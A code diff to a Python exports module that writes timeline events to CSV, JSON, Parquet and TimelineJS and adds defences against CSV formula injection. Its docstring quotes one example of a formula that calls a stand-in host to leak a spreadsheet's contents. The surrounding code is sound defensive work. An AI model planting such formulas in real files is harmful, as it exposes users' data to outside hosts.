@@ -1,14 +1,23 @@
 """Exports: the events frame as CSV, JSON, Parquet and TimelineJS JSON; figures as images.
 
 Every file is written atomically (temporary file, then rename).
+
+CSV is opened in spreadsheets, which run a cell beginning with "=", "+", "-" or "@" (or a tab
+or carriage return before one) as a formula: an article sentence such as
+`=HYPERLINK("http://x.example/?"&A1, "see")` would leak the sheet. As OWASP recommends, such a
+cell is written with a leading "'" (shown as text, not run); so is a cell that already begins
+with "'" and then one of those, so that `read_events` can take exactly one "'" off again and
+read our own CSV back as it was. JSON and Parquet keep the text as it is.
 """
 
 from __future__ import annotations
 
+import datetime as dt
 import html
 import io
 import json
 import os
+import re
 import shutil
 import threading
 import warnings
@@ -19,13 +28,14 @@ import pandas as pd
 
 from timeline._io import atomic_write_bytes
 from timeline.roles import summary
-from timeline.schema import DATE_COLUMNS, LIST_COLUMNS, SchemaError, conform
+from timeline.schema import DATE_COLUMNS, LIST_COLUMNS, SchemaError, conform, new_frame
 
 if TYPE_CHECKING:
     import plotly.graph_objects as go
 
 __all__ = [
     "EVENT_FORMATS",
+    "EXTRA_COLUMNS",
     "FIGURE_FORMATS",
     "ChromiumMissing",
     "ExportError",
@@ -33,13 +43,22 @@ __all__ = [
     "events_bytes",
     "figure_bytes",
     "find_chromium",
+    "headline",
+    "neutralise_cell",
+    "pdf_with_title",
     "read_events",
+    "report_figure",
+    "restore_cell",
+    "source_titles",
     "timelinejs_json",
     "write_events",
     "write_figure",
 ]
 
 EVENT_FORMATS: tuple[str, ...] = ("csv", "json", "parquet")
+# Columns of a merged view (`timeline.dedupe`) that the event exports keep after the
+# schema's own: which articles reported each event.
+EXTRA_COLUMNS: tuple[str, ...] = ("sources", "source_ids", "n_sources")
 FIGURE_FORMATS: tuple[str, ...] = ("png", "svg", "pdf")
 MIME_TYPES: dict[str, str] = {
     "png": "image/png",
@@ -64,6 +83,20 @@ _CHROMIUM_CANDIDATES = (
 )
 
 
+# A cell a spreadsheet would run as a formula (after any quotes we added before).
+_FORMULA = re.compile(r"'*[=+\-@\t\r]")
+
+
+def neutralise_cell(text: str) -> str:
+    """A CSV cell made safe to open in a spreadsheet (a leading "'" before a formula)."""
+    return "'" + text if _FORMULA.match(text) else text
+
+
+def restore_cell(text: str) -> str:
+    """The cell as it was before `neutralise_cell`."""
+    return text[1:] if text.startswith("'") and _FORMULA.match(text, 1) else text
+
+
 def _format_of(path: str | Path) -> str:
     suffix = Path(path).suffix.lower().lstrip(".")
     if suffix not in EVENT_FORMATS:
@@ -82,19 +115,41 @@ def events_bytes(frame: pd.DataFrame, fmt: str) -> bytes:
         return buffer.getvalue()
     if fmt == "csv":
         flat = frame.copy()
-        for col in LIST_COLUMNS:
-            flat[col] = flat[col].map("; ".join)
+        listed = [*LIST_COLUMNS, *(c for c in EXTRA_COLUMNS if c in flat.columns)]
+        for col in listed:
+            flat[col] = flat[col].map(_joined)
         for col in DATE_COLUMNS:
             flat[col] = flat[col].dt.strftime("%Y-%m-%d")
-        return flat.to_csv(index=False).encode("utf-8")
+        for col in flat.columns:
+            if col not in DATE_COLUMNS and not pd.api.types.is_numeric_dtype(flat[col]):
+                flat[col] = flat[col].map(neutralise_cell, na_action="ignore")
+        # Lines end in CRLF (RFC 4180): a cell holding a bare CR or LF is then quoted, so it
+        # cannot start a new row (whose first cell a spreadsheet would run).
+        return flat.to_csv(index=False, lineterminator="\r\n").encode("utf-8")
     if fmt == "json":
         records = []
         for row in frame.to_dict(orient="records"):
             for col in DATE_COLUMNS:
                 row[col] = None if pd.isna(row[col]) else row[col].strftime("%Y-%m-%d")
-            records.append({k: (None if v is pd.NA else v) for k, v in row.items()})
+            records.append({k: _plain_value(v) for k, v in row.items()})
         return json.dumps(records, ensure_ascii=False, indent=1).encode("utf-8")
     raise ValueError(f"unknown events format {fmt!r}; use one of {', '.join(EVENT_FORMATS)}")
+
+
+def _plain_value(value: Any) -> Any:
+    """A cell as JSON takes it: missing -> None, arrays -> lists, numpy numbers -> Python."""
+    if value is pd.NA or value is None:
+        return None
+    if hasattr(value, "tolist"):
+        return value.tolist()
+    return value
+
+
+def _joined(value: Any) -> Any:
+    """A list cell as "a; b" (other cells as they are)."""
+    if isinstance(value, list | tuple) or hasattr(value, "tolist"):
+        return "; ".join(str(v) for v in list(value))
+    return value
 
 
 def write_events(frame: pd.DataFrame, path: str | Path) -> Path:
@@ -110,8 +165,11 @@ def read_events(path: str | Path) -> pd.DataFrame:
             frame = pd.read_parquet(path)
         elif fmt == "csv":
             frame = pd.read_csv(path, dtype=str, keep_default_na=False, na_values=[""])
+            frame = frame.apply(lambda col: col.map(restore_cell, na_action="ignore"))
         else:
             frame = pd.read_json(path, orient="records", dtype=False)
+        if frame.empty and not len(frame.columns):
+            return new_frame()  # "[]": the events file of a run that found none
     except (OSError, ValueError) as exc:
         raise SchemaError(f"{path}: cannot read events: {exc}") from exc
     return conform(frame)
@@ -137,31 +195,96 @@ def _tjs_date(value: pd.Timestamp, precision: str) -> dict[str, str]:
     return {part: str(getattr(value, part)) for part in parts}
 
 
+_HEADLINE_WORDS = 14
+
+
+def headline(clause: str, time_expression: str = "") -> str:
+    """A slide's headline from the event's clause: its time expression left out (the slide
+    shows the date), the first letter capitalised, cut at a word after 14 words."""
+    text = clause or ""
+    if time_expression:
+        text = re.sub(r"\s*" + re.escape(time_expression) + r"\s*,?", " ", text, count=1)
+    words = text.split()
+    if not words:
+        return ""
+    cut = " ".join(words[:_HEADLINE_WORDS]).rstrip(",;:")
+    cut = cut + "…" if len(words) > _HEADLINE_WORDS else cut
+    return cut[0].upper() + cut[1:]
+
+
+def _sources_of(row: Any) -> list[str]:
+    listed: Any = getattr(row, "sources", None)
+    if isinstance(listed, list | tuple) or hasattr(listed, "tolist"):
+        titles = [str(t) for t in list(listed) if str(t)]
+        if titles:
+            return titles
+    return [str(row.source)] if isinstance(row.source, str) and row.source else []
+
+
 def timelinejs_json(frame: pd.DataFrame, title: str = "Timeline") -> bytes:
     """The dated events in TimelineJS 3's JSON format (undated events are left out).
 
-    Text is HTML-escaped, since TimelineJS renders it as HTML.
+    Each slide: the clause as headline ("Serbia formally demanded that its security
+    forces return"), the normalised date as display date ("15 Dec 2022", "1999"), and as
+    text who acted on whom, the sentence, the date as written and the source(s). The title
+    slide names the collection (`title`) and says how many events, articles and sources,
+    over which dates. Text is HTML-escaped, since TimelineJS renders it as HTML.
     """
+    from timeline.chart import date_labels  # the chart's wording of dates (plotly-free part)
+
     frame = conform(frame)
+    dated = frame[frame["start"].notna()]
+    labels = date_labels(dated).str.replace(
+        r" \((?:year|month|week|day|decade|century|"
+        r"quarter|season|half|years|months)\)$",
+        "",
+        regex=True,
+    )
     events = []
-    for row in frame[frame["start"].notna()].itertuples(index=False):
+    titles: set[str] = set()
+    for row, label in zip(dated.itertuples(index=False), labels, strict=True):
         precision = row.precision if isinstance(row.precision, str) else "day"
+        written = row.time_expression if isinstance(row.time_expression, str) else ""
+        who = summary(row.actors, row.targets, str(row.event_type))
+        sources = _sources_of(row)
+        titles.update(sources)
+        text = (
+            f"<p><b>{html.escape(who)}</b></p>"
+            f"<p>{html.escape(str(row.sentence or ''))}</p>"
+            + (f"<p>As written: “{html.escape(written)}”</p>" if written else "")
+            + (
+                f"<p>Source{'s' if len(sources) > 1 else ''}: <i>"
+                + "</i>; <i>".join(html.escape(t) for t in sources)
+                + "</i></p>"
+                if sources
+                else ""
+            )
+        )
         event: dict[str, Any] = {
             "unique_id": str(row.event_id),
             "start_date": _tjs_date(row.start, precision),
+            "display_date": html.escape(str(label)),
             "text": {
-                "headline": html.escape(summary(row.actors, row.targets, str(row.event_type))),
-                "text": f"<p>{html.escape(str(row.sentence))}</p>"
-                + (f"<p><i>{html.escape(str(row.source))}</i></p>" if row.source else ""),
+                "headline": html.escape(headline(str(row.text or ""), written) or who),
+                "text": text,
             },
             "group": html.escape(row.actors[0]) if row.actors else "",
         }
         if not pd.isna(row.end) and (row.end != row.start or precision != "day"):
             event["end_date"] = _tjs_date(row.end, precision)
-        if isinstance(row.time_expression, str) and row.time_expression:
-            event["display_date"] = html.escape(row.time_expression)
         events.append(event)
-    document = {"title": {"text": {"headline": html.escape(title), "text": ""}}, "events": events}
+    about = ""
+    if len(dated):
+        first, last = dated["start"].min(), dated["end"].fillna(dated["start"]).max()
+        span = f"{first.day} {first:%b %Y} – {last.day} {last:%b %Y}"
+        about = (
+            f"<p>{len(dated):,} dated event(s) from {dated['article_id'].nunique():,} "
+            f"article(s) and {len(titles):,} source(s), {span}.</p>"
+        )
+    document = {
+        "title": {"text": {"headline": html.escape(title), "text": about}},
+        "events": events,
+    }
     return json.dumps(document, ensure_ascii=False, indent=1).encode("utf-8")
 
 
@@ -196,13 +319,20 @@ def _check_format(fmt: str) -> str:
 
 
 def _printable(fig: go.Figure) -> dict[str, Any]:
-    """The figure as a dict for a still image: no range slider or buttons (screen only),
-    and SVG traces instead of WebGL ones (sharp in SVG/PDF, and far faster to render in a
+    """The figure as a dict for a still image: no range slider, buttons or hints (screen
+    only), and SVG traces instead of WebGL ones (sharp in SVG/PDF, and far faster to render in a
     headless browser without a GPU)."""
     spec = fig.to_dict()
     for trace in spec.get("data", []):
         if trace.get("type") == "scattergl":
             trace["type"] = "scatter"
+        # Screen-only wording ("hover it") has its printed wording in meta.print_name.
+        meta = trace.get("meta")
+        if isinstance(meta, dict) and meta.get("print_name"):
+            trace["name"] = meta["print_name"]
+    layout = spec.get("layout", {})
+    if "annotations" in layout:  # "hint" annotations ("click all") are for the screen
+        layout["annotations"] = [a for a in layout["annotations"] if a.get("name") != "hint"]
     xaxis = spec.get("layout", {}).get("xaxis")
     if isinstance(xaxis, dict):
         for control in ("rangeslider", "rangeselector"):
@@ -295,6 +425,20 @@ def figure_bytes(
     Raises ChromiumMissing or ExportError.
     """
     fmt = _check_format(fmt)
+    data = _image_bytes(fig, fmt, width, scale, exporter)
+    if fmt == "pdf" and _title_of(fig):
+        # Chromium titles every PDF "Kaleido-fier": the document title is the chart's.
+        data = pdf_with_title(data, _title_of(fig))
+    return data
+
+
+def _image_bytes(
+    fig: go.Figure,
+    fmt: str,
+    width: int | None,
+    scale: float | None,
+    exporter: ImageExporter | None,
+) -> bytes:
     if exporter is not None:
         return exporter.render(fig, fmt, width=width, scale=scale)
     import kaleido
@@ -314,6 +458,121 @@ def figure_bytes(
     except Exception as exc:  # kaleido and the browser raise many kinds
         raise ExportError(f"image export failed: {exc}") from exc
     return bytes(data)
+
+
+# --- Report-ready figures -------------------------------------------------------------
+
+_FOOTER_PX = 64
+_SOURCES_SHOWN = 6
+
+
+def source_titles(frame: pd.DataFrame) -> list[str]:
+    """The titles of the articles behind `frame`'s events (merged reports' every source),
+    the most cited first."""
+    counts: dict[str, int] = {}
+    listed = frame["sources"] if "sources" in frame.columns else None
+    for i, own in enumerate(frame["source"].astype("string").fillna("")):
+        titles: Any = listed.iloc[i] if listed is not None else None
+        names = (
+            [str(t) for t in list(titles)]
+            if isinstance(titles, list | tuple) or hasattr(titles, "tolist")
+            else [str(own)]
+        )
+        for name in dict.fromkeys(n for n in names if n):
+            counts[name] = counts.get(name, 0) + 1
+    return sorted(counts, key=lambda k: (-counts[k], k))
+
+
+def _escape(text: str) -> str:
+    for raw, entity in (("&", "&amp;"), ("<", "&lt;"), (">", "&gt;")):
+        text = text.replace(raw, entity)
+    return text
+
+
+def report_figure(
+    fig: go.Figure,
+    *,
+    title: str,
+    sources: list[str] | tuple[str, ...] = (),
+    exported: dt.date | None = None,
+) -> go.Figure:
+    """A copy of `fig` ready for a report: `title` on top (say what is shown and the
+    filters in words), and under the plot the sources and the date of export. Screen-only
+    hints are left out when it is turned into an image (`figure_bytes`)."""
+    import plotly.graph_objects as go
+
+    out = go.Figure(fig)
+    exported = exported or dt.date.today()
+    shown = [_escape(t if len(t) <= 90 else t[:89] + "…") for t in sources[:_SOURCES_SHOWN]]
+    more = len(sources) - len(shown)
+    line = "; ".join(shown) + (f"; and {more:,} more" if more > 0 else "")
+    footer = (
+        f"Source{'s' if len(sources) > 1 else ''}: {line}<br>" if sources else ""
+    ) + f"Exported {exported.day} {exported:%b %Y} with timeline"
+    margin = out.layout.margin
+    top = max(int(margin.t or 0), 80)
+    bottom = int(margin.b or 0) + _FOOTER_PX
+    height = int(out.layout.height or 500) + _FOOTER_PX + max(0, top - int(margin.t or 0))
+    plot_px = max(height - top - bottom, 1)
+    out.update_layout(
+        title={"text": _escape(title), "x": 0.01, "xanchor": "left", "font": {"size": 18}},
+        height=height,
+        margin={"t": top, "b": bottom},
+    )
+    out.add_annotation(
+        text=footer,
+        xref="paper",
+        yref="paper",
+        x=0,
+        # From the plot's bottom edge down into the bottom margin, in plot-height units.
+        y=-(bottom - 6) / plot_px,
+        xanchor="left",
+        yanchor="bottom",
+        align="left",
+        showarrow=False,
+        font={"size": 10, "color": "#555555"},
+    )
+    return out
+
+
+def pdf_with_title(pdf: bytes, title: str) -> bytes:
+    """`pdf` with `title` as its document title (Info /Title), by an incremental update
+    (ISO 32000-1, 7.5.6): the original bytes, then the new Info object, an xref section for
+    it and a trailer pointing back to the previous one. Returned unchanged when the file's
+    last trailer is not a classic one this can extend."""
+    tail = pdf[-2048:]
+    start = re.search(rb"startxref\s+(\d+)\s+%%EOF\s*$", tail)
+    trailers = list(re.finditer(rb"trailer\s*<<(.*?)>>", pdf[-4096:], re.S))
+    trailer = trailers[-1] if trailers else None
+    if start is None or trailer is None:
+        return pdf
+    body = trailer.group(1)
+    size = re.search(rb"/Size\s+(\d+)", body)
+    root = re.search(rb"/Root\s+(\d+\s+\d+\s+R)", body)
+    info = re.search(rb"/Info\s+(\d+)\s+(\d+)\s+R", body)
+    if size is None or root is None:
+        return pdf
+    number = int(info.group(1)) if info else int(size.group(1))
+    new_size = max(int(size.group(1)), number + 1)
+    # A PDF text string in UTF-16BE with its byte-order mark, written in hex: any title.
+    encoded = "<FEFF" + title.encode("utf-16-be").hex().upper() + ">"
+    head = pdf if pdf.endswith(b"\n") else pdf + b"\n"
+    offset = len(head)
+    producer = "(timeline, Chromium via kaleido)"
+    obj = f"{number} 0 obj\n<</Title {encoded}\n/Producer {producer}>>\nendobj\n"
+    xref_at = offset + len(obj)
+    update = (
+        obj
+        + f"xref\n0 1\n0000000000 65535 f \n{number} 1\n{offset:010d} 00000 n \n"
+        + f"trailer\n<</Size {new_size} /Root {root.group(1).decode()} /Info {number} 0 R"
+        + f" /Prev {int(start.group(1))}>>\nstartxref\n{xref_at}\n%%EOF\n"
+    )
+    return head + update.encode("latin-1")
+
+
+def _title_of(fig: go.Figure) -> str:
+    text = str(fig.layout.title.text or "") if fig.layout.title else ""
+    return html.unescape(re.sub(r"<[^>]+>", " ", text)).strip()
 
 
 def write_figure(fig: go.Figure, path: str | Path) -> Path:
